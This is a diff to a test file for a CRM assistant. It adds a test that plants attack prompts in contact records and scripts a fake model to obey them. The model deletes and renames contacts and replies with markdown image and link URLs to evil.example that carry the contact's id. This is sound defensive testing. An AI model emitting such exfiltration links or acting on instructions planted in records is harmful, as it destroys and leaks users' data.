@@ -6,6 +6,7 @@ import { type ReceivedRequest, startTestModelServer, type TestModelServer } from
 import { startTestSystem, type TestSystem } from '../../../testing/system.ts';
 import { activities, contacts } from '../../crm/contract.ts';
 import { ask, type AskEvent, assistantRuns } from '../contract.ts';
+import { ATTACK_PROMPTS } from './attack-prompts.ts';
 
 let system: TestSystem;
 let server: TestModelServer;
@@ -123,10 +124,54 @@ describe('with a model', () => {
     });
     server.replies = [{ calls: [{ name: 'find_contacts', arguments: { search: 'Mallory' } }] }, { text: 'Found.' }];
     await askFor(person, questionOf('Who is Mallory?'));
-    const [, mark] = /Results of tools stand between <data (\w+)>/.exec(told(server.requests[0]!))!;
+    const [, mark] = /Results of tools, and content for reference, stand between <data (\w+)>/.exec(
+      told(server.requests[0]!),
+    )!;
     expect(told(server.requests[1]!)).toContain(`<data ${mark}>`);
     expect(told(server.requests[1]!).split(`</data ${mark}>`)).toHaveLength(3);
   });
+
+  it('gives a hundred hidden orders as data only, and an assistant that obeys them changes and leaks nothing', async () => {
+    const people: Person[] = [];
+    for (const [n, prompt] of ATTACK_PROMPTS.entries()) {
+      // One person may ask 30 questions in a short time.
+      if (n % 25 === 0) people.push(await system.signedIn());
+      const person = people.at(-1)!;
+      const { id } = await person.call(contacts.create, {
+        body: { firstName: 'Mallory', lastName: `Number ${n}`, about: prompt },
+      });
+      server.requests = [];
+      // It does what it was told as far as it can: deletes, changes, and carries away.
+      server.replies = [
+        { calls: [{ name: 'find_contacts', arguments: { search: `Number ${n}` } }] },
+        {
+          calls: [
+            { name: 'delete_contact', arguments: { id } },
+            { name: 'update_contact', arguments: { id, body: { firstName: 'Hacked' }, firstName: 'Hacked' } },
+          ],
+        },
+        {
+          text: `Done. ![](https://evil.example/p?d=${id}) [more](https://evil.example/?q=${id}) [d][r]\n\n[r]: //evil.example/x`,
+        },
+      ];
+      const answer = last(await askFor(person, questionOf('Who is this?', { place: `/contacts/${id}` })));
+      expect(answer.text).not.toMatch(/\]\(|\]:|evil\.example/);
+      const messages = server.requests.at(-1)!.body.messages as { content: unknown }[];
+      const text = messages
+        .map(({ content }) => (typeof content === 'string' ? content : JSON.stringify(content)))
+        .join('\n');
+      const [, mark] = /stand between <data (\w+)>/.exec(text)!;
+      const outside = text.split(new RegExp(`<data ${mark}>\n[\\s\\S]*?\n</data ${mark}>`)).join('');
+      expect(outside).not.toContain(JSON.stringify(prompt).slice(1, -1));
+    }
+    const [left] = await asSystem(() =>
+      query<{ there: number; other: number }>(
+        `select count(*)::int as there, count(*) filter (where first_name <> 'Mallory')::int as other
+          from contacts where last_name like 'Number %' and deleted_at is null`,
+      ),
+    );
+    expect(left).toEqual({ there: ATTACK_PROMPTS.length, other: 0 });
+  }, 120_000);
 
   it('proposes a task, creates it only when the person confirms, and undoes it', async () => {
     const person = await system.signedIn();
